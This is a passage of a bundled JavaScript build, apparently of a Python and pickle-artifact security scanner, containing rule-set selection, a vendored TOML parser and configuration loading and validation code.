        onScanned?.();
      } catch (e) {
        result2.errors.push({ file: file.relPath, kind: "internal", level: "error", message: `internal error while scanning artifact: ${e.message}` });
      } finally {
        await source.close();
      }
    }
  };
  await Promise.all(Array.from({ length: Math.min(ARTIFACT_CONCURRENCY, files.length) }, worker));
  return result2;
}
function splitRulesets(specs) {
  if (specs.length === 0) return { python: [], runPython: true, artifactRules: [...ARTIFACT_RULES] };
  const python = [];
  const chosen = /* @__PURE__ */ new Map();
  for (const raw of specs) {
    const spec = raw.trim();
    const [lang, name2] = spec.includes("/") ? spec.split("/", 2) : ["", spec];
    const isArtifact = lang.toLowerCase() === "artifact" || lang === "" && /^PICKLE-ARTIFACT-/i.test(name2);
    if (!isArtifact) {
      python.push(raw);
      continue;
    }
    const lower = name2.toLowerCase();
    const matches = lower === "all" || lower === "artifacts" ? ARTIFACT_RULES : ARTIFACT_RULES.filter((r) => r.id.toLowerCase() === lower);
    if (matches.length === 0) {
      return { error: `unknown ruleset "${spec}" (artifact rulesets: artifact/all or artifact/<PICKLE-ARTIFACT-ID>)` };
    }
    for (const rule of matches) chosen.set(rule.id, rule);
  }
  return {
    python,
    runPython: python.length > 0,
    artifactRules: [...chosen.values()].sort((a, b) => a.id.localeCompare(b.id))
  };
}

// src/project/config.ts
var import_picomatch = __toESM(require_picomatch2(), 1);
import { readFileSync, statSync } from "node:fs";
import { basename, dirname as dirname2, isAbsolute, join as join3, relative, resolve as resolve2, sep } from "node:path";

// node_modules/smol-toml/dist/error.js
function getLineColFromPtr(string, ptr) {
  let lines = string.slice(0, ptr).split(/\r?\n/);
  return [lines.length, lines.pop().length + 1];
}
function makeCodeBlock(string, line, column) {
  let lines = string.split(/\r?\n/);
  let codeblock = "";
  let numberLen = (Math.log10(line + 1) | 0) + 1;
  for (let i2 = line - 1; i2 <= line + 1; i2++) {
    let l = lines[i2 - 1];
    if (!l)
      continue;
    codeblock += i2.toString().padEnd(numberLen, " ");
    codeblock += ":  ";
    codeblock += l;
    codeblock += "\n";
    if (i2 === line) {
      codeblock += " ".repeat(numberLen + column + 2);
      codeblock += "^\n";
    }
  }
  return codeblock;
}
var TomlError = class _TomlError extends Error {
  line;
  column;
  codeblock;
  constructor(message15, options) {
    const [line, column] = getLineColFromPtr(options.toml, options.ptr);
    const codeblock = makeCodeBlock(options.toml, line, column);
    super(`Invalid TOML document: ${message15}

${codeblock}`, options);
    this.line = line;
    this.column = column;
    this.codeblock = codeblock;
  }
  /** @internal */
  static x(message15, ctx, ptr) {
    throw new _TomlError(message15, { toml: ctx.s, ptr: ptr ?? ctx.p });
  }
};

// node_modules/smol-toml/dist/primitive.js
function parseString(ctx) {
  let startPtr = ctx.p;
  let c = ctx.s.charCodeAt(ctx.p++);
  let first = c;
  let isLiteral = c === 39;
  let isMultiline = c === ctx.s.charCodeAt(ctx.p) && c === ctx.s.charCodeAt(ctx.p + 1);
  if (isMultiline) {
    if ((c = ctx.s.charCodeAt(ctx.p += 2)) === 10)
      ctx.p++;
    else if (c === 13 && ctx.s.charCodeAt(ctx.p + 1) === 10)
      ctx.p += 2;
  }
  let parsed = "";
  let sliceStart = ctx.p;
  let state = 0;
  for (; ctx.p < ctx.s.length; ctx.p++) {
    c = ctx.s.charCodeAt(ctx.p);
    if (isMultiline && (c === 10 || c === 13 && ctx.s.charCodeAt(ctx.p + 1) === 10)) {
      state = state && 3;
    } else if (c < 32 && c !== 9 || c === 127) {
      TomlError.x("control characters are not allowed in strings", ctx);
    } else if ((!state || state === 3) && c === first && (!isMultiline || ctx.s.charCodeAt(ctx.p + 1) === first && ctx.s.charCodeAt(ctx.p + 2) === first)) {
      if (isMultiline) {
        if (ctx.s.charCodeAt(ctx.p + 3) === first)
          ctx.p++;
        if (ctx.s.charCodeAt(ctx.p + 3) === first)
          ctx.p++;
      }
      if (!state) {
        let s = ctx.s.slice(sliceStart, ctx.p);
        parsed = parsed ? parsed + s : s;
      }
      ctx.p += isMultiline ? 3 : 1;
      return parsed;
    } else if (!state) {
      if (!isLiteral && c === 92) {
        parsed += ctx.s.slice(sliceStart, sliceStart = ctx.p);
        state = 1;
      }
    } else if (state === 1) {
      if (c === 120 || c === 117 || c === 85) {
        let errPtr = ctx.p++ - 1;
        let value = 0;
        let len = c === 120 ? 2 : c === 117 ? 4 : 8;
        for (let j = 0; j < len; j++, ctx.p++) {
          let hex = ctx.s.charCodeAt(ctx.p);
          let digit = (
            /* 0-9 */
            hex >= 48 && hex <= 57 ? hex - 48 : (
              /* A-F */
              hex >= 65 && hex <= 70 ? hex - 65 + 10 : (
                /* a-f */
                hex >= 97 && hex <= 102 ? hex - 97 + 10 : -1
              )
            )
          );
          if (digit < 0)
            TomlError.x("invalid non-hex character in unicode escape", ctx);
          value = value << 4 | digit;
        }
        if (value < 0 || value > 1114111 || value >= 55296 && value <= 57343) {
          TomlError.x("invalid unicode escape", ctx, errPtr);
        }
        parsed += String.fromCodePoint(value);
        sliceStart = ctx.p--;
        state = 0;
      } else if (isMultiline && (c === 32 || c === 9)) {
        state = 2;
      } else {
        if (c === 98)
          parsed += "\b";
        else if (c === 116)
          parsed += "	";
        else if (c === 110)
          parsed += "\n";
        else if (c === 102)
          parsed += "\f";
        else if (c === 114)
          parsed += "\r";
        else if (c === 101)
          parsed += "\x1B";
        else if (c === 34)
          parsed += '"';
        else if (c === 92)
          parsed += "\\";
        else
          TomlError.x("unrecognised escape sequence", ctx);
        sliceStart = ctx.p + 1;
        state = 0;
      }
    } else if (c !== 32 && c !== 9) {
      if (state === 2)
        TomlError.x("invalid escape: only line-ending whitespace may be escaped", ctx, sliceStart);
      state = !isLiteral && c === 92 ? 1 : 0;
      sliceStart = ctx.p;
    }
  }
  TomlError.x("unfinished string", ctx, startPtr);
}

// node_modules/smol-toml/dist/date.js
var DATE_TIME_RE = /^(\d{4}-\d{2}-\d{2})?[Tt ]?(?:(\d{2}):\d{2}(?::\d{2}(?:\.\d+)?)?)?(Z|z|[-+]\d{2}:\d{2})?$/i;
var TomlDate = class _TomlDate extends Date {
  #hasDate = false;
  #hasTime = false;
  #offset = null;
  constructor(date, fasttype, unsafeDelim) {
    let hasDate = true;
    let hasTime = true;
    let offset = "Z";
    let c;
    if (typeof date === "string") {
      if (fasttype)
        prep: {
          if (fasttype < 3) {
            if (+date.slice(11, 13) > 23) {
              date = "";
              break prep;
            }
            if (fasttype === 2) {
              offset = null;
              date += "Z";
            } else if ((c = date.charCodeAt(date.length - 1)) !== 90 && c !== 122) {
              offset = date.slice(date.length - 6);
            }
            if (unsafeDelim)
              date = date.slice(0, 10) + "T" + date.slice(11);
          } else if (fasttype === 4) {
            date = +date.slice(0, 2) > 23 ? "" : `0000-01-01T${date}Z`;
          }
          hasDate = fasttype !== 4;
          hasTime = fasttype !== 3;
        }
      else {
        let match = date.match(DATE_TIME_RE);
        if (match) {
          if (!match[1]) {
            hasDate = false;
            date = `0000-01-01T${date}`;
          }
          hasTime = !!match[2];
          hasTime && date[10] === " " && (date = date.replace(" ", "T"));
          if (match[2] && +match[2] > 23) {
            date = "";
          } else {
            offset = match[3] || null;
            if (!offset && hasTime)
              date += "Z";
          }
        } else {
          date = "";
        }
      }
    }
    super(date);
    if (!isNaN(this.getTime())) {
      this.#hasDate = hasDate;
      this.#hasTime = hasTime;
      this.#offset = offset;
    }
  }
  isDateTime() {
    return this.#hasDate && this.#hasTime;
  }
  isLocal() {
    return !this.#hasDate || !this.#hasTime || !this.#offset;
  }
  isDate() {
    return this.#hasDate && !this.#hasTime;
  }
  isTime() {
    return this.#hasTime && !this.#hasDate;
  }
  isValid() {
    return this.#hasDate || this.#hasTime;
  }
  toISOString() {
    let iso = super.toISOString();
    if (this.isDate())
      return iso.slice(0, 10);
    if (this.isTime())
      return iso.slice(11, 23);
    if (this.#offset === null)
      return iso.slice(0, -1);
    if (this.#offset === "Z" || this.#offset === "z")
      return iso;
    let offset = +this.#offset.slice(1, 3) * 60 + +this.#offset.slice(4, 6);
    offset = this.#offset[0] === "-" ? offset : -offset;
    let offsetDate = new Date(this.getTime() - offset * 6e4);
    return offsetDate.toISOString().slice(0, -1) + this.#offset;
  }
  static wrapAsOffsetDateTime(jsDate, offset = "Z") {
    let date = new _TomlDate(jsDate);
    date.#offset = offset;
    return date;
  }
  static wrapAsLocalDateTime(jsDate) {
    let date = new _TomlDate(jsDate);
    date.#offset = null;
    return date;
  }
  static wrapAsLocalDate(jsDate) {
    let date = new _TomlDate(jsDate);
    date.#hasTime = false;
    date.#offset = null;
    return date;
  }
  static wrapAsLocalTime(jsDate) {
    let date = new _TomlDate(jsDate);
    date.#hasDate = false;
    date.#offset = null;
    return date;
  }
};

// node_modules/smol-toml/dist/extract.js
function isDigit(char, base = 10) {
  return base === 16 ? char > 47 && char < 58 || char > 64 && char < 71 || char > 96 && char < 103 : char > 47 && char < 48 + base;
}
function isEndOfValue(char, delim) {
  return char === 32 || char === 9 || char === 10 || char === 13 || // Structure end or next value delimiter
  delim && (char === delim || char === 44) || // Comment
  char === 35;
}
function extractValue2(ctx, end) {
  let errPtr = ctx.p;
  let c = ctx.s.charCodeAt(ctx.p);
  if (c === 91 || c === 123) {
    ctx.d-- || TomlError.x("document contains excessively nested structures. aborting.", ctx);
    let value = c === 91 ? parseArray(ctx) : parseInlineTable(ctx);
    ctx.d++;
    return value;
  }
  if (c === 34 || c === 39) {
    return parseString(ctx);
  }
  if (c === 116) {
    if (ctx.s.charCodeAt(++ctx.p) !== 114 || ctx.s.charCodeAt(++ctx.p) !== 117 || ctx.s.charCodeAt(++ctx.p) !== 101)
      TomlError.x("invalid value", ctx, errPtr);
    return ctx.p++, true;
  }
  if (c === 102) {
    if (ctx.s.charCodeAt(++ctx.p) !== 97 || ctx.s.charCodeAt(++ctx.p) !== 108 || ctx.s.charCodeAt(++ctx.p) !== 115 || ctx.s.charCodeAt(++ctx.p) !== 101)
      TomlError.x("invalid value", ctx, errPtr);
    return ctx.p++, false;
  }
  if (c === 43 || c === 45) {
    return parseNumber(ctx, ctx.p, ctx.s.charCodeAt(++ctx.p), 44 - c, end);
  }
  if (ctx.s.charCodeAt(ctx.p + 4) === 45 && ctx.s.charCodeAt(ctx.p + 7) === 45) {
    return parseDate(ctx, c, end);
  }
  if (ctx.s.charCodeAt(ctx.p + 2) === 58) {
    return parseTime(ctx, c, end);
  }
  return parseNumber(ctx, ctx.p, c, 0, end);
}
function parseNumber(ctx, startPtr, startChr, sign, endChr) {
  let c = startChr;
  let state = 0;
  let hasUnderscores = false;
  if (c === 105) {
    if (ctx.s.charCodeAt(++ctx.p) !== 110 || ctx.s.charCodeAt(++ctx.p) !== 102)
      TomlError.x("invalid value", ctx, startPtr);
    return ctx.p++, (sign || 1) / 0;
  }
  if (c === 110) {
    if (ctx.s.charCodeAt(++ctx.p) !== 97 || ctx.s.charCodeAt(++ctx.p) !== 110)
      TomlError.x("invalid value", ctx, startPtr);
    return ctx.p++, NaN;
  }
  if (c === 48) {
    if (++ctx.p >= ctx.s.length || isEndOfValue(c = ctx.s.charCodeAt(ctx.p), endChr))
      return ctx.bi === true ? 0n : 0;
    if (!sign) {
      if (c === 120)
        return parseIntegerBaseN(ctx, startPtr, 16, endChr);
      else if (c === 98)
        return parseIntegerBaseN(ctx, startPtr, 2, endChr);
      else if (c === 111)
        return parseIntegerBaseN(ctx, startPtr, 8, endChr);
    }
    if (c === 46)
      state = 2;
    else if (c === 101 || c === 69)
      state = 4;
    else
      TomlError.x("illegal leading zero", ctx, startPtr);
  } else if (!isDigit(c))
    TomlError.x("invalid value", ctx, startPtr);
  while (++ctx.p < ctx.s.length && (c = ctx.s.charCodeAt(ctx.p), !isEndOfValue(c, endChr))) {
    if (!state)
      state = 1;
    if (c === 95) {
      if (!(state & 1))
        TomlError.x("illegal underscore", ctx);
      state += 11;
      hasUnderscores = true;
    } else if (state === 1 && c === 46)
      state = 2;
    else if ((state === 1 || state === 3) && (c === 101 || c === 69))
      state = 4;
    else if (state === 4 && (c === 43 || c === 45)) {
      state = 6;
    } else if (!isDigit(c))
      TomlError.x(`illegal character in numeric literal`, ctx);
    else if (state > 9)
      state -= 11;
    else if (!(state & 1))
      state++;
  }
  if (!state) {
    let val = (startChr - 48) * (sign || 1);
    return ctx.bi === true ? BigInt(val) : val;
  }
  if (!(state & 1))
    TomlError.x("unfinished numeric value", ctx, startPtr);
  let str = ctx.s.slice(startPtr, ctx.p);
  if (hasUnderscores)
    str = str.replaceAll("_", "");
  return state > 1 ? parseFloat(str) : parseInteger(ctx, str, 10, startPtr);
}
function parseIntegerBaseN(ctx, startPtr, base, endChr) {
  let c, underscore = 1;
  while (++ctx.p < ctx.s.length && (c = ctx.s.charCodeAt(ctx.p), !isEndOfValue(c, endChr))) {
    if (c === 95) {
      if (underscore & 1)
        TomlError.x("illegal underscore", ctx);
      underscore = 3;
    } else if (!isDigit(c, base))
      TomlError.x(`illegal character in numeric literal`, ctx);
    else if (underscore & 1)
      underscore--;
  }
  if (underscore & 1)
    TomlError.x("unfinished numeric value", ctx);
  let str = ctx.s.slice(startPtr + 2, ctx.p);
  if (underscore)
    str = str.replaceAll("_", "");
  return parseInteger(ctx, str, base, startPtr);
}
function parseInteger(ctx, str, base, startPtr) {
  if (ctx.bi !== true)
    int: {
      let val = parseInt(str, base);
      if (!Number.isSafeInteger(val)) {
        if (ctx.bi)
          break int;
        TomlError.x("integer value cannot be represented losslessly", ctx, startPtr);
      }
      return val;
    }
  return base === 10 ? BigInt(str) : BigInt((base === 2 ? "0b" : base === 8 ? "0o" : "0x") + str);
}
function parseDate(ctx, c, endChr) {
  let startPtr = ctx.p++, unsafeSeparator;
  if (!isDigit(c) || !isDigit(ctx.s.charCodeAt(ctx.p++)) || !isDigit(ctx.s.charCodeAt(ctx.p++)) || !isDigit(ctx.s.charCodeAt(ctx.p++))) {
    return parseNumber(ctx, ctx.p = startPtr, c, 0, endChr);
  }
  ctx.p += 5;
  if (!isDigit(ctx.s.charCodeAt(ctx.p++)))
    TomlError.x("invalid date-time: date part is malformed", ctx, startPtr);
  if (ctx.p >= ctx.s.length || ((c = ctx.s.charCodeAt(ctx.p)) !== 32 || (unsafeSeparator = true, !isDigit(ctx.s.charCodeAt(ctx.p + 1)))) && c !== 84 && c !== 116) {
    let t2 = ctx.s.slice(startPtr, ctx.p);
    return readDate(ctx, t2, 3, false, startPtr);
  }
  if (ctx.s.charCodeAt(ctx.p += 3) !== 58)
    TomlError.x("invalid date-time: time part is malformed", ctx, startPtr);
  if (ctx.s.charCodeAt(ctx.p += 3) === 58)
    ctx.p += 3;
  if (ctx.s.charCodeAt(ctx.p) === 46)
    while (isDigit(ctx.s.charCodeAt(++ctx.p)))
      ;
  if (c = ctx.s.charCodeAt(ctx.p)) {
    if (c === 90 || c === 122) {
      let t2 = ctx.s.slice(startPtr, ++ctx.p);
      return readDate(ctx, t2, 1, unsafeSeparator, startPtr, "[+00:00]");
    }
    if (c === 43 || c === 45) {
      let t2 = ctx.s.slice(startPtr, ctx.p += 6);
      return readDate(ctx, t2, 1, unsafeSeparator, startPtr, !ctx.ld && "[" + ctx.s.slice(ctx.p - 6, ctx.p) + "]");
    }
  }
  let t = ctx.s.slice(startPtr, ctx.p);
  return readDate(ctx, t, 2, unsafeSeparator, startPtr);
}
function parseTime(ctx, c, endChr) {
  let start2 = ctx.p;
  if (!isDigit(c) || !isDigit(ctx.s.charCodeAt(++ctx.p))) {
    return parseNumber(ctx, --ctx.p, c, 0, endChr);
  }
  if (ctx.s.charCodeAt(ctx.p += 4) === 58)
    ctx.p += 3;
  if (ctx.s.charCodeAt(ctx.p) === 46)
    while (isDigit(ctx.s.charCodeAt(++ctx.p)))
      ;
  let t = ctx.s.slice(start2, ctx.p);
  return readDate(ctx, t, 4, false, start2);
}
function readDate(ctx, str, type, unsafeDelim, errPtr, temporalSuffix) {
  if (ctx.ld) {
    let date = new TomlDate(str, type, unsafeDelim);
    if (!date.isValid())
      TomlError.x("invalid date", ctx, errPtr);
    return date;
  }
  try {
    if (temporalSuffix)
      str += temporalSuffix;
    switch (type) {
      case 1:
        return Temporal.ZonedDateTime.from(str);
      case 2:
        return Temporal.PlainDateTime.from(str);
      case 3:
        return Temporal.PlainDate.from(str);
      case 4:
        return Temporal.PlainTime.from(str);
    }
  } catch (e) {
    TomlError.x(e instanceof Error ? e.message : "" + e, ctx, errPtr);
  }
}

// node_modules/smol-toml/dist/util.js
function skipComment(ctx) {
  for (; ctx.p < ctx.s.length; ctx.p++) {
    let c = ctx.s.charCodeAt(ctx.p);
    if (c === 10)
      break;
    if (c === 13 && ctx.s.charCodeAt(ctx.p + 1) === 10) {
      ctx.p++;
      break;
    }
    if (c < 32 && c !== 9 || c === 127) {
      TomlError.x("control characters are not allowed in comments", ctx);
    }
  }
}
function skipVoid(ctx, banNewLines, banComments) {
  let c;
  while (ctx.p < ctx.s.length) {
    while (ctx.p < ctx.s.length && ((c = ctx.s.charCodeAt(ctx.p)) === 32 || c === 9 || !banNewLines && (c === 10 || c === 13 && ctx.s.charCodeAt(ctx.p + 1) === 10)))
      ctx.p++;
    if (banComments || c !== 35)
      break;
    skipComment(ctx);
  }
}

// node_modules/smol-toml/dist/struct.js
function parseKey(ctx, end = 61) {
  let startPtr;
  let state = 0;
  let parsed = [];
  let sliceStart;
  let c = ctx.s.charCodeAt(startPtr = ctx.p);
  do {
    if (c === end) {
      if (!state)
        TomlError.x("unexpected end of key", ctx);
      if (state === 1)
        parsed.push(ctx.s.slice(sliceStart, ctx.p));
      return ctx.p++, parsed;
    } else if (c === 46) {
      if (!state)
        TomlError.x("illegal empty bare key", ctx);
      if (state === 1)
        parsed.push(ctx.s.slice(sliceStart, ctx.p));
      state = 0;
    } else if (!state && (c === 34 || c === 39)) {
      if (c === ctx.s.charCodeAt(ctx.p + 1) && c === ctx.s.charCodeAt(ctx.p + 2))
        TomlError.x("illegal quoted key: multiline strings are not allowed", ctx);
      parsed.push(parseString(ctx));
      state = 2;
      ctx.p--;
    } else if (c === 32 || c === 9) {
      if (state === 1) {
        parsed.push(ctx.s.slice(sliceStart, ctx.p));
        state = 2;
      }
    } else if (state === 2 || c < 48 && c !== 45 || c > 57 && c < 65 || c > 90 && c < 97 && c !== 95 || c > 122) {
      TomlError.x("illegal character in key", ctx);
    } else if (!state) {
      state = 1;
      sliceStart = ctx.p;
    }
  } while (c = ctx.s.charCodeAt(++ctx.p));
  TomlError.x("incomplete key-value: cannot find end of key", ctx, startPtr);
}
function parseInlineTable(ctx) {
  let startPtr = ctx.p++;
  let res = /* @__PURE__ */ Object.create(null);
  let seen = /* @__PURE__ */ new Set();
  let c;
  while (ctx.p < ctx.s.length) {
    skipVoid(ctx);
    if ((c = ctx.s.charCodeAt(ctx.p)) === 125) {
      ctx.p++;
      return res;
    }
    let k;
    let t = res;
    let hasOwn = false;
    let errPtr = ctx.p;
    let key = parseKey(ctx);
    for (let i2 = 0; i2 < key.length; i2++) {
      if (i2)
        t = hasOwn ? t[k] : t[k] = /* @__PURE__ */ Object.create(null);
      k = key[i2];
      if ((hasOwn = Object.hasOwn(t, k)) && (typeof t[k] !== "object" || seen.has(t[k]))) {
        TomlError.x("trying to redefine an already defined value", ctx, errPtr);
      }
      let unsafe = k === "__proto__";
      if (ctx.uk && (unsafe || k === "constructor")) {
        t = ctx.uk !== 1 && TomlError.x("document contains an unsafe property", ctx, errPtr);
        break;
      }
      if (!hasOwn && unsafe) {
        Object.defineProperty(t, k, { enumerable: true, configurable: true, writable: true });
      }
    }
    if (hasOwn) {
      TomlError.x("trying to redefine an already defined value", ctx, errPtr);
    }
    skipVoid(ctx, true, true);
    let value = extractValue2(
      ctx,
      125
      /* } */
    );
    if (t && typeof (t[k] = value) === "object")
      seen.add(value);
    skipVoid(ctx);
    if ((c = ctx.s.charCodeAt(ctx.p++)) === 125) {
      return res;
    }
    if (c !== 44)
      TomlError.x("expected comma or end of structure", ctx, ctx.p - 1);
  }
  TomlError.x("unfinished table", ctx, startPtr);
}
function parseArray(ctx) {
  let startPtr = ctx.p++;
  let res = [];
  let c;
  while (ctx.p < ctx.s.length) {
    skipVoid(ctx);
    if ((c = ctx.s.charCodeAt(ctx.p)) === 93) {
      ctx.p++;
      return res;
    }
    res.push(extractValue2(
      ctx,
      93
      /* ] */
    ));
    skipVoid(ctx);
    if ((c = ctx.s.charCodeAt(ctx.p++)) === 93) {
      return res;
    }
    if (c !== 44)
      TomlError.x("expected comma or end of structure", ctx, ctx.p - 1);
  }
  TomlError.x("unfinished array", ctx, startPtr);
}

// node_modules/smol-toml/dist/parse.js
function peekTable(ctx, key, table, meta, type) {
  let t = table;
  let m = meta;
  let k;
  let hasOwn = false;
  let state;
  for (let i2 = 0; i2 < key.length; i2++) {
    if (i2) {
      t = hasOwn ? t[k] : t[k] = /* @__PURE__ */ Object.create(null);
      m = (state = m[k]).c;
      if (type === 0 && (state.t === 1 || state.t === 2)) {
        return null;
      }
      if (state.t === 2) {
        let l = t.length - 1;
        t = t[l];
        m = m[l].c;
      }
    }
    k = key[i2];
    if ((hasOwn = Object.hasOwn(t, k)) && m[k]?.t === 0 && m[k]?.d) {
      return null;
    }
    if (!hasOwn) {
      let unsafe = k === "__proto__";
      if (ctx.uk && (unsafe || k === "constructor"))
        return false;
      if (unsafe) {
        Object.defineProperty(t, k, { enumerable: true, configurable: true, writable: true });
        Object.defineProperty(m, k, { enumerable: true, configurable: true, writable: true });
      }
      m[k] = {
        t: i2 < key.length - 1 && type === 2 ? 3 : type,
        d: false,
        i: 0,
        c: /* @__PURE__ */ Object.create(null)
      };
    }
  }
  state = m[k];
  if (state.t !== type && !(type === 1 && state.t === 3)) {
    return null;
  }
  if (type === 2) {
    if (!state.d) {
      state.d = true;
      t[k] = [];
    }
    t[k].push(t = /* @__PURE__ */ Object.create(null));
    state.c[state.i++] = state = { t: 1, d: false, i: 0, c: /* @__PURE__ */ Object.create(null) };
  }
  if (state.d) {
    return null;
  }
  state.d = true;
  if (type === 1) {
    t = hasOwn ? t[k] : t[k] = /* @__PURE__ */ Object.create(null);
  } else if (type === 0 && hasOwn) {
    return null;
  }
  return [k, t, state.c];
}
function validateTablePeek(ctx, peek, ptr) {
  if (peek === null || ctx.uk === 2)
    TomlError.x(peek === null ? "trying to redefine an already defined table or value" : "document contains an unsafe property", ctx, ptr);
}
function parse(toml, options = {}) {
  let ctx = {
    s: toml,
    p: 0,
    d: options.maxDepth ?? 1e3,
    bi: options.integersAsBigInt ?? false,
    ld: options.useLegacyDate ?? true,
    uk: options.unsafeKeyBehaviour === "throw" ? 2 : options.unsafeKeyBehaviour === "drop" ? 1 : 0
  };
  let res = /* @__PURE__ */ Object.create(null);
  let meta = /* @__PURE__ */ Object.create(null);
  let tmp;
  let skipping = false;
  let tbl = res;
  let m = meta;
  if (toml.charCodeAt(0) === 65279)
    ctx.p++;
  skipVoid(ctx);
  while (ctx.p < toml.length) {
    if (toml.charCodeAt(ctx.p) === 91) {
      let isTableArray = toml.charCodeAt(++ctx.p) === 91;
      tmp = ctx.p += +isTableArray;
      skipping = false;
      let k = parseKey(
        ctx,
        93
        /* ] */
      );
      if (isTableArray) {
        if (toml.charCodeAt(ctx.p) !== 93) {
          TomlError.x("expected end of table array declaration", ctx);
        }
        ctx.p++;
      }
      let p = peekTable(
        ctx,
        k,
        res,
        meta,
        isTableArray ? 2 : 1
        /* Type.EXPLICIT */
      );
      if (!p) {
        validateTablePeek(ctx, p, tmp);
        skipping = true;
      } else {
        m = p[2];
        tbl = p[1];
      }
    } else {
      tmp = ctx.p;
      let k = parseKey(ctx);
      let p = peekTable(
        ctx,
        k,
        tbl,
        m,
        0
        /* Type.DOTTED */
      );
      if (!p && !skipping)
        validateTablePeek(ctx, p, tmp);
      skipVoid(ctx, true, true);
      let v = extractValue2(ctx, void 0);
      if (p && !skipping)
        p[1][p[0]] = v;
    }
    skipVoid(ctx, true);
    if (ctx.p < toml.length && (tmp = toml.charCodeAt(ctx.p)) !== 10 && (tmp !== 13 || toml.charCodeAt(ctx.p + 1) !== 10)) {
      TomlError.x("each key-value declaration must be followed by an end-of-line", ctx);
    }
    skipVoid(ctx);
  }
  return res;
}

// node_modules/smol-toml/dist/stringify.js
var HAS_WELLFORMED = !!"".isWellFormed;

// src/core/types.ts
var SEVERITIES = ["critical", "high", "medium", "low"];

// src/core/severity.ts
function severityRank(s) {
  return SEVERITIES.length - SEVERITIES.indexOf(s);
}
function isSeverity(s) {
  return SEVERITIES.includes(s);
}
function atLeast(s, threshold) {
  return severityRank(s) >= severityRank(threshold);
}

// src/project/errors.ts
var UsageError = class extends Error {
};

// src/project/config.ts
var ConfigError = class extends UsageError {
};
var CONFIG_FILE_NAMES = ["pathfinder.toml", ".pathfinder.toml"];
var PYPROJECT = "pyproject.toml";
var MAX_CONFIG_BYTES = 1024 * 1024;
var TOP_LEVEL_KEYS = ["exclude", "disable", "rules"];
var RULE_KEYS = ["extra-sinks", "severity"];
var QUALIFIED_NAME = /^[A-Za-z_][A-Za-z0-9_]*(\.[A-Za-z_][A-Za-z0-9_]*)+$/;
function loadConfig(lookup) {
  if (lookup.disabled) return void 0;
  if (lookup.explicit !== void 0) {
    const file = resolve2(lookup.cwd, lookup.explicit);
    const text = readConfigText(file);
    if (basename(file) === PYPROJECT) {
      const config = fromPyproject(text, file);
      if (!config) throw new ConfigError(`configuration ${file} has no [tool.pathfinder] table`);
      return config;
    }
    return parseConfig(text, file);
  }
  return discoverConfig(resolve2(lookup.cwd, lookup.project));
}
function discoverConfig(project) {
  let dir = isDirectory(project) ? project : dirname2(project);
  for (; ; ) {
    for (const name2 of CONFIG_FILE_NAMES) {
      const file = join3(dir, name2);
      if (isFile(file)) return parseConfig(readConfigText(file), file);
    }
    const pyproject = join3(dir, PYPROJECT);
    if (isFile(pyproject)) {
      const text = readConfigText(pyproject);
      if (text.includes("pathfinder")) {
        const config = fromPyproject(text, pyproject);
        if (config) return config;
      }
    }
    const parent = dirname2(dir);
    if (parent === dir) return void 0;
    dir = parent;
  }
}
function parseConfig(text, file) {
  return validate(parseToml(text, file), file, "");
}
function fromPyproject(text, file) {
  const doc = parseToml(text, file);
  const tool = doc.tool;
  if (!isTable(tool) || tool.pathfinder === void 0) return void 0;
  if (!isTable(tool.pathfinder)) throw invalid(file, "tool.pathfinder", "must be a table");
  return validate(tool.pathfinder, file, "tool.pathfinder.");
}
function parseToml(text, file) {
  try {
    return parse(text);
  } catch (e) {
    if (e instanceof TomlError) {
      const reason2 = e.message.split("\n")[0].replace(/^Invalid TOML document:\s*/, "");
      throw new ConfigError(`invalid configuration ${file}:${e.line}:${e.column}: TOML syntax error: ${reason2}`);
    }
    throw new ConfigError(`invalid configuration ${file}: ${e.message}`);
  }
}
function validate(table, file, prefix) {
  const config = { file, baseDir: dirname2(file), exclude: [], disable: [], rules: {} };
  for (const [key, value] of Object.entries(table)) {
    const path = prefix + key;
    switch (key) {
      case "exclude":
        config.exclude = stringList(value, file, path).map((pattern, i2) => {
          if (!pattern.trim()) throw invalid(file, `${path}[${i2}]`, "empty pattern");
          return pattern;
        });
        break;
      case "disable":
        config.disable = stringList(value, file, path).map((id, i2) => ruleId(id, file, `${path}[${i2}]`));
        break;
      case "rules":
        if (!isTable(value)) throw invalid(file, path, `must be a table of rule IDs, e.g. [${prefix}rules.PYTHON-LANG-SEC-040]`);
        for (const [id, settings] of Object.entries(value)) {
          const canonical = ruleId(id, file, `${path}.${id}`);
          config.rules[canonical] = ruleSettings(settings, file, `${path}.${id}`, isArtifactRule(canonical));
        }
        break;
      default:
        throw invalid(file, path, unknownKey(key, TOP_LEVEL_KEYS));
    }
  }
  return config;
}
function ruleSettings(value, file, path, artifactRule2) {
  if (!isTable(value)) throw invalid(file, path, `must be a table (keys: ${RULE_KEYS.join(", ")})`);
  const out2 = {};
  for (const [key, v] of Object.entries(value)) {
    const keyPath = `${path}.${key}`;
    if (key === "extra-sinks") {
      if (artifactRule2) throw invalid(file, keyPath, "extra sinks apply to Python rules only; artifact rules have no sinks");
      out2.extraSinks = stringList(v, file, keyPath).map((name2, i2) => {
        if (!QUALIFIED_NAME.test(name2)) {
          throw invalid(file, `${keyPath}[${i2}]`, `"${name2}" is not a dotted qualified name such as "myapp.cache.load_blob"`);
        }
        return name2;
      });
    } else if (key === "severity") {
      if (typeof v !== "string") throw invalid(file, keyPath, `must be a string (${SEVERITIES.join(", ")}), not ${typeName(v)}`);
      const severity = v.toLowerCase();
      if (!isSeverity(severity)) throw invalid(file, keyPath, `unknown severity "${v}" (use ${SEVERITIES.join(", ")})`);
      out2.severity = severity;
    } else {
      throw invalid(file, keyPath, unknownKey(key, RULE_KEYS));
    }
  }
  return out2;
}
function knownRuleIds() {
  return [...PYTHON_RULES, ...ARTIFACT_RULES].map((r) => r.id);
}
function isArtifactRule(id) {
  return ARTIFACT_RULES.some((r) => r.id === id);
}
function ruleId(id, file, path) {
  const bare = id.replace(/^(python|artifact)\//i, "");
  const known = knownRuleIds().find((k) => k.toUpperCase() === bare.toUpperCase());
  if (known) return known;
  const suggestion = closest(bare, knownRuleIds());
  throw invalid(file, path, `unknown rule ID "${id}"${suggestion ? `; did you mean "${suggestion}"?` : ""} (see: pathfinder rules list)`);
}
function stringList(value, file, path) {
  if (!Array.isArray(value)) throw invalid(file, path, `must be an array of strings, not ${typeName(value)}`);
  value.forEach((item, i2) => {
    if (typeof item !== "string") throw invalid(file, `${path}[${i2}]`, `must be a string, not ${typeName(item)}`);
  });
  return value;
}
function unknownKey(key, known) {
  const suggestion = closest(key, known);
  return `unknown key${suggestion ? `; did you mean "${suggestion}"?` : ""} (known keys: ${known.join(", ")})`;
}
function invalid(file, key, reason2) {
